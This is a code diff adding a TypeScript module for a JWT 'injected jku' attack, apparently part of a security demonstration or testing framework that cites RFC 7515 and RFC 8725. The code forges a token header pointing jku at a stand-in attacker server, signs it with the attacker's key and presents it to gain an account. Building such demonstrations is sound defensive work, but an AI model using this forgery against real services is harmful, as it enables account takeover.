@@ -1,0 +1,29 @@
+/** The address of the attacker’s own key set in the header. Not: the key itself (jwk-injection.ts). */
+import { rfc } from '#sources/sources';
+import { sign, withParameters } from '#jose/forge-header';
+import { ATTACKER_PUBLIC_JWK } from '../attacker-key';
+import { ATTACKER_ORIGIN } from '../origins';
+import { forgerHas, noTokenToForge, present } from '../forged-token';
+import type { AttackUnit } from '../attack';
+
+const attack: AttackUnit = {
+  order: 45,
+  group: 'forged tokens',
+  label: 'Injected jku',
+  says: 'The attacker signs with a key of their own, and the header says where to fetch it: at the attacker’s server.',
+  grants: ['an account'],
+  sources: [rfc(7515, '4.1.2'), rfc(8725, '3.10')],
+  scene: ['log-in', 'read-orders'],
+  presupposes: { alg: 'EdDSA' },
+  inapplicable: noTokenToForge,
+  play: async (hands) => {
+    const has = await forgerHas(hands);
+    if (!has) return;
+
+    const { alg, kid } = ATTACKER_PUBLIC_JWK;
+    const header = withParameters(has.header, { alg, kid, jku: `${ATTACKER_ORIGIN}/jwks.json` });
+    await present(hands, [{ compact: await sign(header, has.payload, alg, has.own.privateKey) }]);
+  },
+};
+
+export default attack;
